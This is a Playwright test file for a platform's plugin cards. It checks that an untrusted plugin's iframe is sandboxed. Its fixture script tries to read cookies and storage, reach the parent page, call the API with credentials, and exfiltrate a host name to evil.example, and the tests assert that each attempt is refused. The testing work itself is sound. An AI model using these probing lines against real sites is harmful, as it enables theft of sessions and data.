import { once } from 'node:events'
import { mkdirSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { faults, looks, start, type Looks, type Rig } from './rig'

let rig: Rig
let remote: Server

/** What is not there within ten seconds does not come. */
async function open(path: string, look?: Looks) {
  const opened = await rig.open(path, look)
  opened.context.setDefaultTimeout(10_000)
  return opened
}

async function picture(page: Page, name: string, look: Looks): Promise<void> {
  const dir = process.env.SEXTANT_PICTURES
  if (!dir) return
  mkdirSync(dir, { recursive: true })
  await page.screenshot({ path: join(dir, `${name}-${look.theme}-${look.locale}-${look.width ?? 1440}.png`), fullPage: true })
}

/** A card that tries whatever it should not be able to do, and shows what came of it. */
const nosy = `
const told = (root, name, value) => { const p = document.createElement('p'); p.dataset.name = name; p.textContent = name + ': ' + value; root.append(p) }
const attempt = async (fn) => { try { return 'GOT ' + String(await fn()).slice(0, 60) } catch (e) { return 'refused ' + (e.code ?? e.name) } }
export async function pry(root, host) {
  told(root, 'row', host.row.name)
  told(root, 'origin', self.origin)
  told(root, 'cookie', await attempt(() => document.cookie || 'nothing'))
  told(root, 'storage', await attempt(() => localStorage.length))
  told(root, 'parent', await attempt(() => parent.document.title))
  told(root, 'parent location', await attempt(() => parent.location.href))
  told(root, 'api', await attempt(() => fetch('/api/v1/me', { credentials: 'include' }).then((r) => r.status)))
  told(root, 'elsewhere', await attempt(() => fetch('https://evil.example/?' + host.row.name).then((r) => r.status)))
  told(root, 'top', await attempt(() => { top.location = 'https://evil.example/'; return 'set' }))
  told(root, 'popup', await attempt(() => open('https://evil.example/') || Promise.reject(new Error('none'))))
  told(root, 'eval', await attempt(() => new Function('return 1')()))
  told(root, 'read', await attempt(() => host.read().then((r) => r.name)))
  told(root, 'call by itself', await attempt(() => host.call('pry', 'see')))
  told(root, 'open by itself', await attempt(() => host.open('host:host/web-1')))
  parent.postMessage('sextant card', '*')
  parent.postMessage({ id: 1, method: 'object.read' }, '*')
  const button = (name, fn) => { const b = document.createElement('button'); b.type = 'button'; b.textContent = name; b.onclick = async () => told(root, name, await attempt(fn)); root.append(b) }
  button('call another plugin', () => host.call('facts', 'collect'))
  button('call own', () => host.call('pry', 'see'))
  told(root, 'end', 'of the list')
}
export function quiet(root, host) { const p = document.createElement('p'); p.textContent = 'Hello, ' + host.row.name; p.style.margin = '0'; root.append(p) }
export function broken() { throw new Error('out of order') }
`
const manifest = (exports: string[]) => ({
  plugin: 'nosy',
  version: '1.0.0',
  title: { en: 'Nosy', zh: '好奇' },
  services: [
    {
      name: 'pry',
      actions: [
        {
          action: 'see',
          title: { en: 'See', zh: '查看' },
          path: '/v1/pry/see',
          method: 'POST',
          target: 'host:host',
          batch: 1,
          timeout: 'PT1M',
          risk: 'read',
        },
      ],
    },
  ],
  run: { builtin: true },
  ui: { entry: 'ui/nosy.js', cards: exports.map((e) => ({ on: 'host:host', export: e })) },
})
let shown = ['pry', 'broken']
const connect = async (exports: string[]) => {
  shown = exports
  await rig.api('PUT', '/api/v1/plugins/nosy', { url: `http://127.0.0.1:${(remote.address() as AddressInfo).port}` })
}

beforeAll(async () => {
  rig = await start()
  remote = createServer((req, res) => {
    if (req.url === '/manifest') return void res.setHeader('Content-Type', 'application/json').end(JSON.stringify(manifest(shown)))
    if (req.url === '/ui/ui/nosy.js') return void res.end(nosy)
    res.statusCode = 404
    res.end()
  }).listen(0, '127.0.0.1')
  await once(remote, 'listening')
  await rig.api('POST', '/api/v1/plugins/nosy/token', {})
  await connect(['pry', 'broken'])
  await rig.api('POST', '/api/v1/objects/host:host', [
    {
      id: 'web-1',
      name: 'web-1',
      address: '192.0.2.1',
      os: 'Debian GNU/Linux 13 (trixie)',
      kernel: '6.12.48',
      arch: 'x86_64',
      cpus: 8,
      memory_mb: 15872,
    },
    { id: 'web-2', name: 'web-2', address: '192.0.2.2' },
  ])
})
afterAll(async () => {
  remote?.close()
  await rig?.close()
})

describe('the cards of plugins', () => {
  it('of a plugin that comes with the platform are part of the page, with a style of their own', async () => {
    const { page, context } = await open('/objects/host:host/web-2')
    await page.getByText('Nobody has asked this host yet').waitFor()
    await page.getByRole('button', { name: 'Ask it' }).click()
    await page.getByRole('dialog').getByText('Collect facts').first().waitFor()
    await page.keyboard.press('Escape')
    await rig.api('PATCH', '/api/v1/objects/host:host', [{ id: 'web-2', cpus: 4, memory_mb: 512 }])
    await page.getByText('512', { exact: true }).first().waitFor()
    expect(await page.locator('iframe').count()).toBe(1) // that of the other plugin alone; its broken one is gone
    await context.close()
  })

  it('of other plugins reach neither the page nor the API nor anybody else', async () => {
    const { page, context } = await open('/objects/host:host/web-1')
    const left: string[] = []
    page.on('request', (r) => r.url().includes('evil.example') && left.push(r.url()))
    const card = page.frameLocator('iframe').first()
    await card.getByText('end: of the list').waitFor()
    const got = Object.fromEntries(
      (await card.locator('p').allTextContents()).map((l) => [l.slice(0, l.indexOf(': ')), l.slice(l.indexOf(': ') + 2)]),
    )
    expect(got).toMatchObject({
      row: 'web-1',
      origin: 'null',
      read: 'GOT web-1',
      'call by itself': 'refused card.by_itself',
      'open by itself': 'refused card.by_itself',
    })
    for (const name of ['cookie', 'storage', 'parent', 'parent location', 'api', 'elsewhere', 'top', 'popup', 'eval'])
      expect(got[name], name).toMatch(/^refused /)
    expect(left).toEqual([])
    expect(new URL(page.url()).pathname).toBe('/objects/host:host/web-1')
    expect(await page.locator('iframe').first().getAttribute('sandbox')).toBe('allow-scripts')
    await context.close()
  })

  it('call what is theirs by the hand of a person, who is asked, and nothing else', async () => {
    const { page, context } = await open('/objects/host:host/web-1')
    const card = page.frameLocator('iframe').first()
    await card.getByRole('button', { name: 'call another plugin' }).click()
    await card.locator('[data-name="call another plugin"]').waitFor()
    expect(await card.locator('[data-name="call another plugin"]').textContent()).toBe('call another plugin: refused card.refused')
    await card.getByRole('button', { name: 'call own' }).click()
    await page.getByRole('dialog').getByText('See').first().waitFor()
    expect(await rig.api<{ items: unknown[] }>('GET', '/api/v1/runs').then((r) => r.items.length)).toBe(0) // asked for, not done
    await context.close()
  })

  it('that do not work say so, and leave the rest of the page as it is', async () => {
    const { page, context } = await open('/objects/host:host/web-1')
    await page.getByText('The card of the plugin nosy does not work: out of order').waitFor()
    await page.getByRole('button', { name: 'Load it again' }).waitFor()
    await page.getByText('Debian GNU/Linux 13 (trixie) · x86_64').waitFor()
    await context.close()
  })

  it('hear nothing that strangers say, and strangers hear nothing of them', async () => {
    const { page, context } = await open('/objects/host:host/web-1')
    await page.frameLocator('iframe').first().getByText('end: of the list').waitFor()
    // The page itself, and a frame of somebody else within it, claim to be the card.
    const heard = await page.evaluate(async () => {
      const said: unknown[] = []
      addEventListener('message', (e) => e.ports.length && said.push(e.data))
      postMessage('sextant card', '*')
      for (const data of [{ id: 9, method: 'object.read' }, 'sextant card', { kind: 'begin' }])
        dispatchEvent(new MessageEvent('message', { data, origin: 'null', source: window }))
      await new Promise((next) => requestAnimationFrame(() => requestAnimationFrame(next)))
      return said
    })
    expect(heard).toEqual([])
    // A script of a plugin that is not trusted does not run within the page, whoever asks for it.
    const ran = await page.evaluate(`import('/ui/nosy/1.0.0/ui/nosy.js').then(() => 'ran', () => 'refused')`)
    expect(ran).toBe('refused')
    // Opened by itself the frame has no rights either.
    const alone = await context.newPage()
    await alone.goto(`${rig.url}/ui/-/card.html`)
    expect(await alone.evaluate(() => self.origin)).toBe('null')
    await context.close()
  })

  for (const look of looks) {
    it(`are accessible and fit: ${look.theme} ${look.locale} ${look.width ?? 1440}`, async () => {
      await connect(['quiet'])
      const { page, context, complaints } = await open('/objects/host:host/web-1', look)
      await page.frameLocator('iframe').getByText('Hello, web-1').waitFor()
      await page.getByText('Debian GNU/Linux 13 (trixie) · x86_64').waitFor()
      await picture(page, 'cards', look)
      expect(await faults(page)).toEqual([])
      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
      // The script that sets the language and theme of a test has no storage in the frame, and says so.
      expect(complaints.filter((c) => !/'localStorage' property from 'Window': The document is sandboxed/.test(c))).toEqual([])
      await context.close()
    })
  }
})
